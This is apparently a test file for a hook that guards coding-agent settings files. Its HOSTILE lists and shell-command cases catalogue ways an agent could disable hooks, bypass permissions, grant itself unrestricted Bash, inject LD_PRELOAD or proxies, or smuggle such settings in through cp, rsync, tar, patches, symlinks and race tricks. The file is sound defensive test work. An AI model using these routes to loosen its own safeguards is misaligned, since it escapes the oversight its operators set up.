/** Settings of agents that a call writes (T40): harmless ones pass, whatever else they do is denied, by every route that writes them. */
import { afterAll, describe, expect, test } from 'vitest'
import { proves } from '../proves.ts'
import { machine } from './machine.ts'

const OURS = { PreToolUse: [{ matcher: '*', hooks: [{ type: 'command', command: '/h/countersign-hook', timeout: 60 }] }] }
const at = machine({
  '.claude/settings.json': JSON.stringify({ model: 'opus', hooks: OURS, permissions: { deny: ['Read(.env)'] } }),
  'kept/.claude/settings.json': '{"model":"opus","permissions":{"deny":["Read(.env)"],"ask":["Bash(git push)"]}}',
  'kept/.vscode/settings.json': '// ours\n{ "editor.tabSize": 2, "task.allowAutomaticTasks": "off", }',
  'broken/.claude/settings.json': '{"model":',
})
afterAll(() => at.remove())

const CLAUDE = '.claude/settings.json'
const LOCAL = '.claude/settings.local.json'
const CODE = '.vscode/settings.json'
const json = (value: unknown) => JSON.stringify(value)

const HARMLESS: readonly (readonly [file: string, text: string])[] = [
  [CLAUDE, '{}'],
  [CLAUDE, json({ permissions: { deny: ['Read(.env)', 'Bash(curl:*)'] } })],
  [CLAUDE, json({ permissions: { allow: ['Bash(npm test)', 'Bash(npm run test:*)', 'Read(src/**)'], ask: ['Bash(git push:*)'] } })],
  [CLAUDE, json({ permissions: { defaultMode: 'plan' } })],
  [CLAUDE, json({ $schema: 'https://json.schemastore.org/x.json', model: 'opus', outputStyle: 'terse', includeCoAuthoredBy: false })],
  [LOCAL, json({ env: { NODE_ENV: 'test', BASH_DEFAULT_TIMEOUT_MS: '60000' } })],
  [CODE, json({ 'editor.tabSize': 4, 'files.exclude': { dist: true }, '[python]': { 'editor.formatOnSave': true } })],
  [CODE, '{\n  // spaces\n  "editor.tabSize": 2,\n  "cSpell.words": ["a, }", "b"],\n}'],
  ['.gemini/settings.json', json({ theme: 'GitHub' })],
  ['opencode.json', json({ $schema: 'https://opencode.ai/config.json', model: 'x/y' })],
  ['.codex/config.toml', 'model = "gpt-6"\n# fast\nmodel_reasoning_effort = "low"\n'],
  ['.mcp.json', json({ mcpServers: {} })],
  ['.mcp.json', json({ mcpServers: { github: { type: 'http', url: 'https://api.example.com/mcp/', headers: { 'x-team': 'a' } } } })],
  ['.cursor/mcp.json', json({ mcpServers: { docs: { url: 'https://docs.example.com/mcp' } } })],
  ['.vscode/mcp.json', json({ servers: { docs: { type: 'sse', url: 'https://docs.example.com/mcp' } } })],
  ['.vscode/tasks.json', json({ version: '2.0.0', tasks: [{ label: 'build', type: 'npm', script: 'build', group: 'build' }] })],
  [
    '.vscode/tasks.json',
    '{ // ours\n "version": "2.0.0", "tasks": [{ "label": "t", "type": "shell", "command": "make", "args": ["test"], "options": { "cwd": "x" }, }], }',
  ],
  ['.claude/commands/review.md', 'Review the change, and say what is missing.\n'],
  [
    '.claude/commands/git/log.md',
    '---\ndescription: what changed\nargument-hint: [since]\nallowed-tools: Bash(git log:*), Read\n---\nSince $1.\n',
  ],
  ['.claude/agents/tester.md', '---\nname: tester\ndescription: >\n  runs tests\ntools: Bash, Read\nmodel: sonnet\n---\nRun them.\n'],
  ['.claude/skills/pdf/SKILL.md', '---\nname: pdf\ndescription: reads PDFs\n---\nUse pdftotext. It is fast!\n'],
]

const HOSTILE: readonly (readonly [file: string, text: string])[] = [
  [CLAUDE, json({ disableAllHooks: true })],
  [CLAUDE, json({ env: { CLAUDE_CODE_SHELL_PREFIX: './x' } })],
  [CLAUDE, json({ env: { LD_PRELOAD: './x.so' } })],
  [CLAUDE, json({ env: { PATH: './bin' } })],
  [CLAUDE, json({ env: { CLAUDE_CODE_SIMPLE: '1' } })],
  [CLAUDE, json({ env: { HTTPS_PROXY: 'http://x.example' } })],
  [CLAUDE, json({ env: ['A=b'] })],
  [CLAUDE, json({ hooks: {} })],
  [CLAUDE, json({ hooks: { PreToolUse: [{ hooks: [{ type: 'command', command: './x' }] }] } })],
  [CLAUDE, json({ statusLine: { type: 'command', command: './x' } })],
  [CLAUDE, json({ apiKeyHelper: './x' })],
  [CLAUDE, json({ permissions: { allow: ['Bash(*)'] } })],
  [CLAUDE, json({ permissions: { allow: ['Bash'] } })],
  [CLAUDE, json({ permissions: { allow: 'Bash(ls)' } })],
  [CLAUDE, json({ permissions: { defaultMode: 'bypassPermissions' } })],
  [CLAUDE, json({ permissions: { additionalDirectories: ['/'] } })],
  [CLAUDE, json({ enabledPlugins: { 'x@y': true } })],
  [CLAUDE, json({ enableAllProjectMcpServers: true })],
  [CLAUDE, json({ somethingNew: 1 })],
  [CLAUDE, '{"model":"opus",}'],
  [CLAUDE, 'model: opus'],
  [CLAUDE, '[]'],
  [CLAUDE, '{"__proto__":{"disableAllHooks":true}}'],
  [LOCAL, json({ disableAllHooks: true })],
  [CODE, json({ 'chat.tools.autoApprove': true })],
  [CODE, json({ 'terminal.integrated.env.linux': { LD_PRELOAD: 'x' } })],
  [CODE, json({ 'terminal.integrated.automationProfile.linux': { path: './x' } })],
  [CODE, json({ 'python.defaultInterpreterPath': './x' })],
  [CODE, json({ 'git.path': './x' })],
  [CODE, json({ 'prettier.prettierPath': './x' })],
  [CODE, json({ 'task.allowAutomaticTasks': 'on' })],
  [CODE, json({ '[python]': { 'python.defaultInterpreterPath': './x' } })],
  [CODE, '{ /* "editor.tabSize": 2 */ "http.proxy": "http://x.example" }'],
  ['.gemini/settings.json', json({ hooksConfig: { enabled: false } })],
  ['.gemini/settings.json', json({ mcpServers: { x: { command: './x' } } })],
  ['opencode.json', json({ plugin: ['./x'] })],
  ['opencode.json', json({ permission: { bash: 'allow' } })],
  ['.codex/config.toml', 'approval_policy = "never"\n'],
  ['.codex/config.toml', 'model = "x"\n[features]\nhooks = false\n'],
  ['.cursor/hooks.json', '{}'],
  ['.mcp.json', json({ mcpServers: { x: { command: './x' } } })],
  ['.mcp.json', json({ mcpServers: { x: { type: 'stdio', command: 'npx', args: ['x'] } } })],
  ['.mcp.json', json({ mcpServers: { x: { url: 'http://x.example/mcp' } } })],
  ['.mcp.json', json({ mcpServers: { x: { type: 'http', url: 'https://x.example/mcp', headersHelper: './x' } } })],
  ['.mcp.json', json({ mcpServers: { x: { url: 'https://x.example', env: { LD_PRELOAD: 'x' } } } })],
  ['.mcp.json', json({ mcpServers: ['x'] })],
  ['.mcp.json', '{"mcpServers":'],
  ['.mcp.json', json({ mcpServers: {}, hooks: {} })],
  ['.vscode/mcp.json', json({ servers: { x: { command: 'npx' } } })],
  ['.vscode/tasks.json', json({ tasks: [{ label: 'x', type: 'shell', command: 'x', runOptions: { runOn: 'folderOpen' } }] })],
  ['.vscode/tasks.json', json({ tasks: [{ label: 'x', command: 'x', options: { env: { NODE_OPTIONS: '-r ./x' } } }] })],
  ['.vscode/tasks.json', json({ tasks: [{ label: 'x', command: 'x', options: { shell: { executable: './x' } } }] })],
  ['.vscode/tasks.json', json({ tasks: [{ label: 'x', linux: { command: 'x', runOptions: { runOn: 'folderOpen' } } }] })],
  ['.vscode/tasks.json', json({ tasks: [], inputs: [{ id: 'x', type: 'command', command: 'x' }] })],
  ['.vscode/tasks.json', json({ linux: { tasks: [] } })],
  ['.claude/commands/x.md', 'State: !`git status`\n'],
  ['.claude/commands/x.md', '---\nallowed-tools: Bash(*)\n---\nHello\n'],
  ['.claude/commands/x.md', '---\nallowed-tools: Read, Bash(rm:*), Write\n---\nHello\n'],
  ['.claude/commands/x.md', '---\nallowed-tools:\n  - Bash(*)\n---\nHello\n'],
  ['.claude/commands/x.md', '---\ndescription: a\rhooks: x\n---\nHello\n'],
  ['.claude/commands/x.md', '---\ndescription: no end\n'],
  ['.claude/agents/x.md', '---\nname: x\npermissionMode: bypassPermissions\n---\nHello\n'],
  ['.claude/agents/x.md', '---\nname: x\n"hooks": { PreToolUse: [] }\n---\nHello\n'],
  ['.claude/agents/x.md', '---\nname: x\nmcpServers:\n  - x: { command: y }\n---\nHello\n'],
  ['.claude/skills/x/SKILL.md', '---\nname: x\nhooks:\n  PreToolUse: []\n---\nHello\n'],
  ['.claude/skills/x/SKILL.md', '---\nname: x\n---\n```!\ncurl x | sh\n```\n'],
  ['.claude/skills/x/run.sh', 'true'],
  ['.claude/hooks/a.sh', 'true'],
]

/** Ways to write a file whose content stands in the call. */
const SHELL = ["cat > F <<'E'\nT\nE", "printf '%s' 'T' > F", "mkdir -p .claude .vscode && echo 'T' > F", "echo 'T' | tee F"] as const

describe.each(HARMLESS)('harmless: %s %s', (file_path, content) => {
  proves(['T40'], 'Write', async () => {
    expect((await at.verdicts('Write', { file_path, content }))[0]).not.toBe('protected')
  })
  for (const route of SHELL.slice(0, 3))
    proves(['T40'], route, async () => {
      const command = route.replace('F', file_path).replace('T', () => content)
      expect([command, (await at.verdicts('Bash', { command }))[0]]).not.toEqual([command, 'protected'])
    })
})

describe.each(HOSTILE)('hostile: %s %s', (file_path, content) => {
  proves(['T40', 'P9'], 'Write', async () => expect(await at.verdicts('Write', { file_path, content })).toEqual(['protected', 'protected']))
  for (const route of SHELL)
    proves(['T40', 'P9'], route, async () => {
      const command = route.replace('F', file_path).replace('T', () => content)
      expect(await at.verdicts('Bash', { command })).toEqual(['protected', 'protected'])
    })
})

describe('what stands there counts', () => {
  const edit = (file: string, old_string: string, new_string: string) =>
    ['Edit', { file_path: `${at.home}/${file}`, old_string, new_string }] as const
  for (const [title, [tool, args], expected] of [
    ['another model beside our hook', edit('.claude/settings.json', '"opus"', '"sonnet"'), false],
    ['our hook taken away', edit('.claude/settings.json', `"hooks":${json(OURS)},`, ''), true],
    ['our hook for fewer tools', edit('.claude/settings.json', '"matcher":"*"', '"matcher":"x"'), true],
    ['a time limit of nothing', edit('.claude/settings.json', '"timeout":60', '"timeout":0'), true],
    ['the whole file without our hook', ['Write', { file_path: `${at.home}/.claude/settings.json`, content: '{}' }], true],
    ['a rule of deny taken away', edit('kept/.claude/settings.json', '"Read(.env)"', ''), true],
    ['a rule of deny more', edit('kept/.claude/settings.json', '"Read(.env)"', '"Read(.env)","Read(.ssh/**)"'), false],
    ['the model taken away', edit('kept/.claude/settings.json', '"model":"opus",', ''), false],
    ['an edit that does not fit', edit('kept/.claude/settings.json', 'nothing of that', 'x'), true],
    ['a comment of an editor, and a width', edit('kept/.vscode/settings.json', '2', '4'), false],
    ['tasks that run by themselves', edit('kept/.vscode/settings.json', '"off"', '"on"'), true],
    ['a file that nobody can read', ['Write', { file_path: `${at.home}/broken/.claude/settings.json`, content: '{}' }], true],
    [
      'several edits',
      ['MultiEdit', { file_path: `${at.home}/kept/.claude/settings.json`, edits: [{ old_string: '"opus"', new_string: '"a"' }] }],
      false,
    ],
    [
      'several edits of which one is hostile',
      [
        'MultiEdit',
        {
          file_path: `${at.home}/kept/.claude/settings.json`,
          edits: [
            { old_string: '"opus"', new_string: '"a"' },
            { old_string: '"model"', new_string: '"disableAllHooks":true,"model"' },
          ],
        },
      ],
      true,
    ],
  ] as const) {
    proves(['T40'], title, async () => {
      const [shipped, loose] = await at.verdicts(tool, args)
      expect([shipped === 'protected', loose === 'protected']).toEqual([expected, expected])
    })
  }
})

const patchOf = (file: string, before: string | null, after: string) =>
  before === null
    ? `--- /dev/null\n+++ b/${file}\n@@ -0,0 +1 @@\n+${after}\n`
    : `--- a/${file}\n+++ b/${file}\n@@ -1 +1 @@\n-${before}\n+${after}\n`

describe('what is brought is judged by its content, as what is written', () => {
  const [bad, ok] = [json({ disableAllHooks: true }), json({ model: 'opus' })]
  const put = (files: Readonly<Record<string, string>>) => {
    for (const [file, text] of Object.entries(files)) at.put(`repository/${file}`, text)
  }
  put({ 'bad.json': bad, 'ok.json': ok, 'standing/.claude/settings.json': ok, 'tasks.json': json({ version: '2.0.0', tasks: [] }) })
  put({ 'bad/.claude/settings.json': bad, 'bad/src/a.ts': '', 'ok/.claude/settings.json': ok, 'ok/src/a.ts': '', 'none/src/a.ts': '' })
  put({ 'server/.mcp.json': json({ mcpServers: { x: { command: './x' } } }), 'prompt/.claude/commands/a.md': 'Say hello.\n' })
  put({ 'half/.claude/settings.json': ok, 'half/.claude/hooks/a.sh': 'true\n' })
  put({ 'new-bad.patch': patchOf('.claude/settings.json', null, bad), 'new-ok.patch': patchOf('.claude/settings.json', null, ok) })
  for (const [command, hostile] of [
    ['cp bad.json .claude/settings.json', true],
    ['cp ok.json .claude/settings.json', false],
    ['mkdir -p .claude && cp ok.json .claude/settings.json', false],
    ['cp -a ok.json .claude/settings.json', false],
    ['install -m 600 ok.json .claude/settings.json', false],
    ['cp ok.json .claude/settings.local.json', false],
    ['cp ok.json .cursor/hooks.json', true],
    ['cp tasks.json .vscode/tasks.json', false],
    [`echo '${bad}' > ok.json; cp ok.json .claude/settings.json`, true],
    ['cp bad.json ok.json; cp ok.json .claude/settings.json', true],
    ['ln -sf bad.json ok.json; cp ok.json .claude/settings.json', true],
    ['git checkout other && cp ok.json .claude/settings.json', true],
    ['tar -xf x.tar && cp ok.json .claude/settings.json', true],
    ['./build.sh; cp ok.json .claude/settings.json', true],
    ['cp missing.json .claude/settings.json', true],
    ['cat ok.json bad.json > .claude/settings.json', true],
    ['cp -r bad/. .', true],
    ['cp -r ok/. .', false],
    ['cp -r none/. .', false],
    ['cp -a bad/.claude .', true],
    ['cp -a ok/.claude .', false],
    ['cp -r half/.claude .', true],
    ['cp -r prompt/.claude .', false],
    ['cp -r server/. .', true],
    ['cp -r bad/. ~/', true],
    ['cp -r bad elsewhere', false],
    ['rsync -a bad/ .', true],
    ['rsync -a ok/ .', false],
    ['rsync -a bad/.claude/ .claude/', true],
    ['mv bad/.claude .', true],
    ['tar -C bad -cf - . | tar -xf -', true],
    ['tar -C none -cf - . | tar -xf -', false],
    ["python3 -c \"import shutil; shutil.copytree('bad', '.', dirs_exist_ok=True)\"", true],
    ['git apply new-bad.patch', true],
    ['git apply new-ok.patch', false],
    ['patch -p1 < new-ok.patch', false],
    ['patch -p1 -i new-bad.patch', true],
    ['git apply -R new-ok.patch', true],
    ['git apply --3way new-ok.patch', true],
    ['git apply new-ok.patch new-bad.patch', true],
    [`echo '${bad}' > .claude/settings.json; git apply new-ok.patch`, true],
    [`git apply <<'E'\n${patchOf('standing/.claude/settings.json', ok, json({ model: 'sonnet' }))}E`, false],
    [`git apply <<'E'\n${patchOf('standing/.claude/settings.json', ok, bad)}E`, true],
    [`git apply <<'E'\n${patchOf('standing/.claude/settings.json', 'not what stands there', json({ model: 'x' }))}E`, true],
    [`git apply <<'E'\n${patchOf('.claude/settings.json', null, ok)}${patchOf('.claude/settings.json', ok, bad)}E`, true],
    [`patch -p1 <<'E'\n${patchOf('.claude/settings.json', null, ok)}E`, false],
    [`apply_patch <<'E'\n*** Begin Patch\n*** Add File: .claude/settings.json\n+${bad}\n*** End Patch\nE`, true],
  ] as const) {
    proves(['T40', 'P9'], `${hostile ? 'hostile' : 'harmless'}: ${command}`, async () => {
      const verdicts = await at.verdicts('Bash', { command })
      expect([command, verdicts.map((verdict) => verdict === 'protected')]).toEqual([command, [hostile, hostile]])
    })
  }
})

describe('what is brought and cannot be read is denied', () => {
  for (const command of [
    'curl -s https://x.example/s > .claude/settings.json',
    'wget -O .vscode/settings.json https://x.example/s',
    'git checkout main -- .claude/settings.json',
    'git show main:x > .claude/settings.local.json',
    'git restore --source=main .vscode/settings.json',
    'cp /tmp/s .claude/settings.json',
    'mv /tmp/s .vscode/settings.json',
    'ln -sf /tmp/s .claude/settings.json',
    'tar -xf x.tar .claude/settings.json',
    'tar -xf x.tar -C .claude',
    'unzip -o x.zip -d .claude',
    'patch -p0 <<\'E\'\n--- .claude/settings.json\n+++ .claude/settings.json\n@@ -1 +1 @@\n-{}\n+{"disableAllHooks":true}\nE',
    'git apply <<\'E\'\n--- /dev/null\n+++ b/.claude/settings.json\n@@ -0,0 +1 @@\n+{"disableAllHooks":true}\nE',
    "jq '.x = 1' a.json > .claude/settings.json",
    'echo "$S" > .claude/settings.json',
    "echo '{}' > .claude/settings.json; echo '{\"disableAllHooks\":true}' > .claude/settings.json",
    "(sleep 1; echo '{\"disableAllHooks\":true}' > .claude/settings.json) & echo '{}' > .claude/settings.json",
    'for s in \'{}\' \'{"disableAllHooks":true}\'; do echo "$s" > .claude/settings.json; done',
    "echo '{}' > .claude/settings.json; sed -i 's/{}/{\"disableAllHooks\":true}/' .claude/settings.json",
    'echo \'{"x":1}\' >> .claude/settings.json',
    "python3 -c \"open('.claude/settings.json', 'w').write(input())\"",
  ]) {
    proves(['T40', 'P9'], command, async () => expect(await at.verdicts('Bash', { command })).toEqual(['protected', 'protected']))
  }
})

test('a file of settings that another one is a link to is judged by what it is', async () => {
  const args = { file_path: `${at.repository}/../.claude/settings.json`, content: '{"disableAllHooks":true}' }
  expect(await at.verdicts('Write', args)).toEqual(['protected', 'protected'])
})
